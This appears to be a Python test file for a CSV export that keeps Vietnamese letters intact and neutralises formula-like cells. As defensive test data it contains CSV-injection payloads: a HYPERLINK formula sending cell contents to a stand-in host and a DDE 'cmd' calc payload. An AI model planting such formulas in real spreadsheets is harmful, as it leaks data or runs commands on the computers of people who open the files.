"""CSV for people: Vietnamese letters whole, and nothing in it calculates."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from records.domain.exports.spreadsheet import csv_of

from tests.records.taken_along import lines_of
from tests.records.unit.exports.sheets import STAMP, sheet

# What spreadsheets take for a formula, by OWASP's list (CSV Injection) and by trying.
_DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.sec("CSV-01")
@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://x.example?"&A1,"Xem")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "  =1+1",
        "\uff1d1+1",
        "%0A=1+1",
    ],
)
def test_an_employer_named_like_a_formula_stays_a_name(cell: str) -> None:
    (*_, row) = lines_of(csv_of(sheet(cell), STAMP))

    assert row == [f"'{cell}"]


@given(st.text(max_size=30))
def test_no_cell_begins_like_a_formula(cell: str) -> None:
    lines = lines_of(csv_of(sheet(cell, fact=cell), STAMP))

    assert not [each for line in lines for each in line if each.lstrip(" ").startswith(_DANGEROUS)]


@given(st.text(st.characters(blacklist_categories=["Cs"]), max_size=30))
def test_every_other_cell_is_read_back_as_it_was_written(cell: str) -> None:
    (*_, row) = lines_of(csv_of(sheet(cell, "sau"), STAMP))

    assert row[0].removeprefix("'") == cell.removeprefix("'")
    assert row[1] == "sau"


def test_a_spreadsheet_knows_by_the_first_bytes_that_the_letters_are_vietnamese() -> None:
    file = csv_of(sheet("Nguyễn Thị Ỷ, Ẵ; đường Ỡ"), STAMP)

    assert file.startswith(b"\xef\xbb\xbf")
    assert lines_of(file)[-1] == ["Nguyễn Thị Ỷ, Ẵ; đường Ỡ"]
    assert file.count(b"\r\n") == file.count(b"\n")


def test_the_code_travels_with_the_file() -> None:
    assert ["Mã kiểm tra", STAMP.code] in lines_of(csv_of(sheet(), STAMP))
